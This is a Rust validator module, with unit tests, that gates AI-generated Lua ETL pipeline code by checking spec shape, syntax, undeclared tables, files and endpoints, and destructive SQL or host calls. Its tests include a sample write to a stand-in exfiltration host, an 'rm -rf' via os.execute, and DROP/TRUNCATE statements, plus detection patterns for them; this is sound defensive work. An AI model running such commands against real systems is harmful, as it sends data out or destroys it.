//! Validator
//!
//! Pure gate between a generated (spec, code) pair and the `active` state.
//! Checks run in order and stop at the first failing one:
//!
//! 1. spec well-formedness
//! 2. Lua syntax (compiled, never executed)
//! 3. referenced tables and files are declared by the spec
//! 4. no destructive operations unless the spec allows them
//!
//! All violations of the failing check are reported together.

mod lexer;
pub mod schedule;

use copilot_core::domain::spec::{EtlSpec, FileFormat, PipelineSpec, SourceSpec, TargetSpec, TransformOp};
use copilot_core::domain::validation::{Rule, Violation};
use regex::Regex;

const MAX_NAME_LEN: usize = 255;

/// Extensions treated as data files when they appear in string literals
const DATA_EXTENSIONS: &str = "csv|tsv|json|jsonl|parquet|xlsx?";

pub struct Validator {
    identifier: Regex,
    host_call: Regex,
    sql_statement: Regex,
    sql_table: Regex,
    sql_keyword_call: Regex,
    sql_distinct_from: Regex,
    cte_name: Regex,
    file_literal: Regex,
    drop_object: Regex,
    truncate: Regex,
    alter_drop: Regex,
    delete_from: Regex,
    where_clause: Regex,
    dangerous_call: Regex,
}

impl Validator {
    pub fn new() -> Result<Self, regex::Error> {
        Ok(Self {
            identifier: Regex::new(r"^[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)?$")?,
            host_call: Regex::new(r#"\bctx\s*[.:]\s*(read|write|sql)\s*\(?\s*"""#)?,
            sql_statement: Regex::new(
                r"(?i)^\s*(select|insert|update|delete|create|drop|truncate|alter|merge|with|copy)\b",
            )?,
            sql_table: Regex::new(
                r"(?i)\b(?:from|join|into|update|table(?:\s+if\s+(?:not\s+)?exists)?)\s+([A-Za-z_][A-Za-z0-9_]*(?:\.[A-Za-z_][A-Za-z0-9_]*)?)",
            )?,
            sql_keyword_call: Regex::new(r"(?i)\b(?:extract|substring|trim|position|overlay)\s*\(")?,
            sql_distinct_from: Regex::new(r"(?i)\bis\s+(?:not\s+)?distinct\s+from\b")?,
            cte_name: Regex::new(
                r"(?i)\b([A-Za-z_][A-Za-z0-9_]*)\s*(?:\([^()]*\))?\s+as\s*(?:(?:not\s+)?materialized\s*)?\(",
            )?,
            file_literal: Regex::new(&format!(r"(?i)^[\w./\\-]+\.(?:{DATA_EXTENSIONS})$"))?,
            drop_object: Regex::new(r"(?i)\bdrop\s+(?:table|schema|database)\b")?,
            truncate: Regex::new(r"(?i)\btruncate\b")?,
            alter_drop: Regex::new(r"(?i)\balter\s+table\b[^;]*\bdrop\b")?,
            delete_from: Regex::new(r"(?i)\bdelete\s+from\b")?,
            where_clause: Regex::new(r"(?i)\bwhere\b")?,
            dangerous_call: Regex::new(r"\b(?:os\s*\.\s*(?:remove|execute)|io\s*\.\s*popen)\b")?,
        })
    }

    /// Run every check against a generated pair
    pub fn validate(&self, spec: &PipelineSpec, code: &str) -> Result<(), Vec<Violation>> {
        let etl = match spec {
            PipelineSpec::Etl(etl) => etl,
            PipelineSpec::Unrecognized(raw) => {
                return Err(vec![
                    Violation::new(
                        Rule::UnrecognizedSpec,
                        "Specification does not match any known pipeline shape",
                    )
                    .with_fragment(abbreviate(&raw.to_string())),
                ]);
            }
        };

        self.check_spec(etl)?;
        check_syntax(code)?;

        let scanned = lexer::scan(code);
        self.check_resources(etl, &scanned)?;
        if !etl.allow_destructive {
            self.check_destructive(&scanned)?;
        }

        Ok(())
    }

    // =========================================================================
    // Spec well-formedness
    // =========================================================================

    fn check_spec(&self, spec: &EtlSpec) -> Result<(), Vec<Violation>> {
        let mut violations = Vec::new();

        if spec.name.trim().is_empty() {
            violations.push(
                Violation::new(Rule::MalformedSpec, "Pipeline name cannot be empty")
                    .with_fragment("name"),
            );
        } else if spec.name.chars().count() > MAX_NAME_LEN {
            violations.push(
                Violation::new(
                    Rule::MalformedSpec,
                    format!("Pipeline name is too long (max {MAX_NAME_LEN} characters)"),
                )
                .with_fragment("name"),
            );
        }

        match &spec.source {
            SourceSpec::File { path, format } => {
                check_file(&mut violations, "source.path", path, *format);
            }
            SourceSpec::Database { table } => {
                self.check_table(&mut violations, "source.table", table);
            }
            SourceSpec::Api { url } => {
                if !(url.starts_with("http://") || url.starts_with("https://")) {
                    violations.push(
                        Violation::new(Rule::MalformedSpec, "API source must be an http(s) URL")
                            .with_fragment(url.clone()),
                    );
                }
            }
        }

        match &spec.target {
            TargetSpec::Table { name } => self.check_table(&mut violations, "target.name", name),
            TargetSpec::File { path, format } => {
                check_file(&mut violations, "target.path", path, *format);
            }
        }

        if spec.transforms.is_empty() {
            violations.push(Violation::new(
                Rule::MissingTransform,
                "Specification declares no transformation step",
            ));
        }

        for (index, step) in spec.transforms.iter().enumerate() {
            if step.description.trim().is_empty() {
                violations.push(
                    Violation::new(Rule::MalformedSpec, "Transform step has no description")
                        .with_fragment(format!("transforms[{index}].description")),
                );
            }
            if step.op == TransformOp::Join && step.tables.is_empty() {
                violations.push(
                    Violation::new(Rule::MalformedSpec, "Join step names no table to join")
                        .with_fragment(format!("transforms[{index}].tables")),
                );
            }
            for table in &step.tables {
                self.check_table(&mut violations, &format!("transforms[{index}].tables"), table);
            }
        }

        if let Some(schedule) = &spec.schedule {
            if !schedule::is_valid(schedule) {
                violations.push(
                    Violation::new(
                        Rule::InvalidSchedule,
                        "Schedule must be 'manual', an @-macro or a five-field cron expression",
                    )
                    .with_fragment(schedule.clone()),
                );
            }
        }

        finish(violations)
    }

    fn check_table(&self, violations: &mut Vec<Violation>, field: &str, table: &str) {
        if !self.identifier.is_match(table) {
            violations.push(
                Violation::new(
                    Rule::MalformedSpec,
                    format!("{field} is not a valid table name"),
                )
                .with_fragment(table.to_string()),
            );
        }
    }

    // =========================================================================
    // Declared resources
    // =========================================================================

    fn check_resources(&self, spec: &EtlSpec, scanned: &lexer::Scanned) -> Result<(), Vec<Violation>> {
        let declared_tables = spec.declared_tables();
        let declared_files: Vec<&str> = spec.declared_files().into_iter().map(clean_path).collect();
        let declared_api = match &spec.source {
            SourceSpec::Api { url } => Some(url.as_str()),
            _ => None,
        };

        let mut violations: Vec<Violation> = Vec::new();
        let mut report = |violation: Violation| {
            if !violations.contains(&violation) {
                violations.push(violation);
            }
        };

        let mut sql_arguments = Vec::new();
        for (call, index) in self.host_calls(scanned) {
            let argument = scanned.strings[index].trim();
            match call {
                HostCall::Sql => sql_arguments.push(index),
                HostCall::Read | HostCall::Write => {
                    if argument.starts_with("http://") || argument.starts_with("https://") {
                        if declared_api != Some(argument) {
                            report(undeclared("endpoint", argument));
                        }
                    } else if self.is_file_path(argument) {
                        if !declared_files.contains(&clean_path(argument)) {
                            report(undeclared("file", argument));
                        }
                    } else if !declared_tables.iter().any(|d| table_matches(argument, d)) {
                        report(undeclared("table", argument));
                    }
                }
            }
        }

        for (index, literal) in scanned.strings.iter().enumerate() {
            if sql_arguments.contains(&index) || self.sql_statement.is_match(literal) {
                for table in self.sql_tables(literal) {
                    if !declared_tables.iter().any(|d| table_matches(&table, d)) {
                        report(undeclared("table", &table));
                    }
                }
            }

            let candidate = literal.trim();
            if self.file_literal.is_match(candidate)
                && !declared_files.contains(&clean_path(candidate))
            {
                report(undeclared("file", candidate));
            }
        }

        finish(violations)
    }

    /// `ctx.read`, `ctx.write` and `ctx.sql` calls whose first argument is a literal
    fn host_calls(&self, scanned: &lexer::Scanned) -> Vec<(HostCall, usize)> {
        self.host_call
            .captures_iter(&scanned.code)
            .filter_map(|capture| {
                let placeholder = capture.get(0)?.end() - 2;
                let index = scanned.literal_at(placeholder)?;
                let call = match &capture[1] {
                    "read" => HostCall::Read,
                    "write" => HostCall::Write,
                    _ => HostCall::Sql,
                };
                Some((call, index))
            })
            .collect()
    }

    fn is_file_path(&self, name: &str) -> bool {
        self.file_literal.is_match(name) || name.contains('/') || name.contains('\\')
    }

    /// Tables a SQL text reads or writes, minus the names its own CTEs define
    fn sql_tables(&self, sql: &str) -> Vec<String> {
        let sql = self.sql_distinct_from.replace_all(sql, " ");
        let sql = strip_calls(&sql, &self.sql_keyword_call);

        let ctes: Vec<String> = self
            .cte_name
            .captures_iter(&sql)
            .map(|capture| capture[1].to_ascii_lowercase())
            .collect();

        let mut tables: Vec<String> = Vec::new();
        for capture in self.sql_table.captures_iter(&sql) {
            let table = capture[1].to_string();
            if !ctes.contains(&table.to_ascii_lowercase()) && !tables.contains(&table) {
                tables.push(table);
            }
        }
        tables
    }

    // =========================================================================
    // Destructive operations
    // =========================================================================

    fn check_destructive(&self, scanned: &lexer::Scanned) -> Result<(), Vec<Violation>> {
        let mut violations = Vec::new();

        for literal in &scanned.strings {
            for statement in literal.split(';') {
                let statement = statement.trim();
                let destructive = self.drop_object.is_match(statement)
                    || self.truncate.is_match(statement)
                    || self.alter_drop.is_match(statement)
                    || (self.delete_from.is_match(statement)
                        && !self.where_clause.is_match(statement));

                if destructive {
                    violations.push(
                        Violation::new(
                            Rule::DestructiveOperation,
                            "Destructive SQL statement was not requested",
                        )
                        .with_fragment(abbreviate(statement)),
                    );
                }
            }
        }

        for call in self.dangerous_call.find_iter(&scanned.code) {
            violations.push(
                Violation::new(
                    Rule::DestructiveOperation,
                    "Code calls a function that touches the host system",
                )
                .with_fragment(call.as_str().to_string()),
            );
        }

        finish(violations)
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum HostCall {
    Read,
    Write,
    Sql,
}

// =============================================================================
// Helper Functions
// =============================================================================

fn undeclared(kind: &str, name: &str) -> Violation {
    Violation::new(
        Rule::UndeclaredResource,
        format!("Code references {kind} '{name}' which the spec does not declare"),
    )
    .with_fragment(name.to_string())
}

/// Blank out `EXTRACT(...)`-style calls, which use `FROM` inside their arguments
fn strip_calls(sql: &str, call: &Regex) -> String {
    let mut out = String::with_capacity(sql.len());
    let mut rest = 0;

    for found in call.find_iter(sql) {
        if found.start() < rest {
            continue;
        }
        out.push_str(&sql[rest..found.start()]);
        out.push(' ');

        let mut depth = 1;
        let mut end = sql.len();
        for (offset, c) in sql[found.end()..].char_indices() {
            match c {
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        end = found.end() + offset + 1;
                        break;
                    }
                }
                _ => {}
            }
        }
        rest = end;
    }

    out.push_str(&sql[rest..]);
    out
}

/// Compile the script without running it
fn check_syntax(code: &str) -> Result<(), Vec<Violation>> {
    if code.trim().is_empty() {
        return Err(vec![Violation::new(Rule::SyntaxError, "Generated code is empty")]);
    }

    let lua = mlua::Lua::new();
    let compiled = lua
        .load(code)
        .set_name("pipeline")
        .set_mode(mlua::ChunkMode::Text)
        .into_function();

    match compiled {
        Ok(_) => Ok(()),
        Err(e) => Err(vec![Violation::new(Rule::SyntaxError, e.to_string())]),
    }
}

fn check_file(violations: &mut Vec<Violation>, field: &str, path: &str, format: FileFormat) {
    if path.trim().is_empty() {
        violations.push(
            Violation::new(Rule::MalformedSpec, format!("{field} cannot be empty"))
                .with_fragment(field.to_string()),
        );
        return;
    }

    let extension = std::path::Path::new(path)
        .extension()
        .and_then(|ext| ext.to_str())
        .map(str::to_ascii_lowercase);

    if extension.as_deref() != Some(format.extension()) {
        violations.push(
            Violation::new(
                Rule::MalformedSpec,
                format!("{field} must end in .{}", format.extension()),
            )
            .with_fragment(path.to_string()),
        );
    }
}

/// Case-insensitive match where `schema.table` also matches a bare `table`
fn table_matches(referenced: &str, declared: &str) -> bool {
    let referenced = referenced.to_ascii_lowercase();
    let declared = declared.to_ascii_lowercase();
    if referenced == declared {
        return true;
    }
    match (referenced.rsplit_once('.'), declared.rsplit_once('.')) {
        (Some((_, table)), None) => table == declared,
        (None, Some((_, table))) => table == referenced,
        _ => false,
    }
}

fn clean_path(path: &str) -> &str {
    path.trim().trim_start_matches("./")
}

fn abbreviate(text: &str) -> String {
    const MAX: usize = 120;
    if text.chars().count() <= MAX {
        text.to_string()
    } else {
        let mut short: String = text.chars().take(MAX).collect();
        short.push_str("...");
        short
    }
}

fn finish(violations: Vec<Violation>) -> Result<(), Vec<Violation>> {
    if violations.is_empty() {
        Ok(())
    } else {
        Err(violations)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use copilot_core::domain::spec::TransformStep;
    use serde_json::json;

    fn sales_spec() -> EtlSpec {
        EtlSpec {
            name: "sales_load".to_string(),
            description: "Load sales CSV into the sales table".to_string(),
            source: SourceSpec::File {
                path: "data/sales.csv".to_string(),
                format: FileFormat::Csv,
            },
            transforms: vec![TransformStep {
                op: TransformOp::Filter,
                description: "drop rows without an amount".to_string(),
                tables: vec![],
            }],
            target: TargetSpec::Table {
                name: "sales".to_string(),
            },
            schedule: Some("@daily".to_string()),
            allow_destructive: false,
        }
    }

    const SALES_CODE: &str = r#"
local rows = ctx.read("data/sales.csv")
local kept = {}
for _, row in ipairs(rows) do
  if row.amount ~= nil then table.insert(kept, row) end
end
ctx.sql("CREATE TABLE IF NOT EXISTS sales (id INT, amount NUMERIC)")
ctx.write("sales", kept)
"#;

    fn validate(spec: EtlSpec, code: &str) -> Result<(), Vec<Violation>> {
        Validator::new()
            .unwrap()
            .validate(&PipelineSpec::Etl(spec), code)
    }

    #[test]
    fn test_sales_pipeline_passes() {
        assert_eq!(validate(sales_spec(), SALES_CODE), Ok(()));
    }

    #[test]
    fn test_undeclared_table_is_reported() {
        let code = r#"
local rows = ctx.sql("SELECT * FROM customers")
ctx.write("sales", rows)
"#;

        let violations = validate(sales_spec(), code).unwrap_err();
        assert_eq!(violations.len(), 1);
        assert_eq!(violations[0].rule, Rule::UndeclaredResource);
        assert_eq!(violations[0].fragment.as_deref(), Some("customers"));
    }

    #[test]
    fn test_undeclared_file_is_reported() {
        let code = r#"local rows = ctx.read("data/orders.csv") ctx.write("sales", rows)"#;

        let violations = validate(sales_spec(), code).unwrap_err();
        assert_eq!(violations[0].fragment.as_deref(), Some("data/orders.csv"));
    }

    #[test]
    fn test_undeclared_write_target_is_reported() {
        let code = r#"local rows = ctx.read("data/sales.csv") ctx.write("customers", rows)"#;

        let violations = validate(sales_spec(), code).unwrap_err();
        assert_eq!(violations.len(), 1);
        assert_eq!(violations[0].rule, Rule::UndeclaredResource);
        assert_eq!(violations[0].fragment.as_deref(), Some("customers"));
    }

    #[test]
    fn test_host_call_arguments_are_checked() {
        let code = r#"
local rows = ctx.read 'orders'
ctx:write("exports/sales.txt", rows)
ctx.write("https://evil.example/upload", rows)
"#;

        let fragments: Vec<String> = validate(sales_spec(), code)
            .unwrap_err()
            .into_iter()
            .filter_map(|v| v.fragment)
            .collect();
        assert_eq!(
            fragments,
            vec!["orders", "exports/sales.txt", "https://evil.example/upload"]
        );
    }

    #[test]
    fn test_declared_api_source_can_be_read() {
        let mut spec = sales_spec();
        spec.source = SourceSpec::Api {
            url: "https://api.example.com/sales".to_string(),
        };

        let code = r#"ctx.write("sales", ctx.read("https://api.example.com/sales"))"#;
        assert_eq!(validate(spec, code), Ok(()));
    }

    #[test]
    fn test_sql_argument_without_leading_keyword_is_scanned() {
        let code = r#"ctx.sql("  -- refresh\nINSERT INTO audit SELECT * FROM sales")"#;

        let violations = validate(sales_spec(), code).unwrap_err();
        assert_eq!(violations[0].fragment.as_deref(), Some("audit"));
    }

    #[test]
    fn test_from_inside_sql_functions_is_not_a_table() {
        let code = r#"
ctx.sql("SELECT EXTRACT(YEAR FROM order_date) AS y FROM sales")
ctx.sql("SELECT TRIM(BOTH ' ' FROM name), SUBSTRING(code FROM 2 FOR 3) FROM sales")
ctx.sql("SELECT * FROM sales WHERE amount IS DISTINCT FROM refund")
ctx.write("sales", ctx.read("data/sales.csv"))
"#;
        assert_eq!(validate(sales_spec(), code), Ok(()));
    }

    #[test]
    fn test_cte_names_are_not_tables() {
        let code = r#"
local rows = ctx.sql([[
  WITH totals AS (SELECT region, SUM(amount) AS total FROM sales GROUP BY region),
       ranked (region, total) AS (SELECT * FROM totals)
  SELECT * FROM ranked JOIN customers ON true
]])
ctx.write("sales", rows)
"#;

        let violations = validate(sales_spec(), code).unwrap_err();
        assert_eq!(violations.len(), 1);
        assert_eq!(violations[0].fragment.as_deref(), Some("customers"));
    }

    #[test]
    fn test_schema_qualified_table_matches() {
        let code = r#"ctx.sql("INSERT INTO public.Sales SELECT 1") ctx.read("./data/sales.csv")"#;
        assert_eq!(validate(sales_spec(), code), Ok(()));
    }

    #[test]
    fn test_comments_are_not_resources() {
        let code = "-- SELECT * FROM customers\nreturn ctx.read(\"data/sales.csv\")";
        assert_eq!(validate(sales_spec(), code), Ok(()));
    }

    #[test]
    fn test_syntax_error_short_circuits() {
        let code = r#"ctx.sql("SELECT * FROM customers" local = "#;

        let violations = validate(sales_spec(), code).unwrap_err();
        assert_eq!(violations.len(), 1);
        assert_eq!(violations[0].rule, Rule::SyntaxError);
    }

    #[test]
    fn test_malformed_spec_collects_all_violations() {
        let mut spec = sales_spec();
        spec.name = " ".to_string();
        spec.source = SourceSpec::File {
            path: "data/sales.json".to_string(),
            format: FileFormat::Csv,
        };
        spec.transforms.clear();
        spec.schedule = Some("every day".to_string());

        let rules: Vec<Rule> = validate(spec, "return 1")
            .unwrap_err()
            .into_iter()
            .map(|v| v.rule)
            .collect();
        assert_eq!(
            rules,
            vec![
                Rule::MalformedSpec,
                Rule::MalformedSpec,
                Rule::MissingTransform,
                Rule::InvalidSchedule
            ]
        );
    }

    #[test]
    fn test_join_requires_tables() {
        let mut spec = sales_spec();
        spec.transforms.push(TransformStep {
            op: TransformOp::Join,
            description: "join customers".to_string(),
            tables: vec![],
        });

        let violations = validate(spec, "return 1").unwrap_err();
        assert_eq!(
            violations[0].fragment.as_deref(),
            Some("transforms[1].tables")
        );
    }

    #[test]
    fn test_unrecognized_spec_is_rejected() {
        let validator = Validator::new().unwrap();
        let spec = PipelineSpec::Unrecognized(json!({ "pipeline_name": "x" }));

        let violations = validator.validate(&spec, "return 1").unwrap_err();
        assert_eq!(violations[0].rule, Rule::UnrecognizedSpec);
    }

    #[test]
    fn test_destructive_sql_is_rejected() {
        let code = r#"
ctx.sql("DELETE FROM sales")
ctx.sql("DELETE FROM sales WHERE amount IS NULL")
ctx.sql([[TRUNCATE TABLE sales; DROP TABLE sales]])
"#;

        let violations = validate(sales_spec(), code).unwrap_err();
        let fragments: Vec<&str> = violations
            .iter()
            .filter_map(|v| v.fragment.as_deref())
            .collect();
        assert!(violations.iter().all(|v| v.rule == Rule::DestructiveOperation));
        assert_eq!(
            fragments,
            vec!["DELETE FROM sales", "TRUNCATE TABLE sales", "DROP TABLE sales"]
        );
    }

    #[test]
    fn test_host_calls_are_rejected() {
        let code = r#"os.execute("rm -rf /tmp/x") return ctx.read("data/sales.csv")"#;

        let violations = validate(sales_spec(), code).unwrap_err();
        assert_eq!(violations[0].rule, Rule::DestructiveOperation);
        assert_eq!(violations[0].fragment.as_deref(), Some("os.execute"));
    }

    #[test]
    fn test_allow_destructive_skips_check() {
        let mut spec = sales_spec();
        spec.allow_destructive = true;

        let code = r#"ctx.sql("TRUNCATE TABLE sales") ctx.write("sales", ctx.read("data/sales.csv"))"#;
        assert_eq!(validate(spec, code), Ok(()));
    }

    #[test]
    fn test_table_matches() {
        assert!(table_matches("SALES", "sales"));
        assert!(table_matches("public.sales", "sales"));
        assert!(table_matches("sales", "public.sales"));
        assert!(!table_matches("a.sales", "b.sales"));
        assert!(!table_matches("customers", "sales"));
    }
}
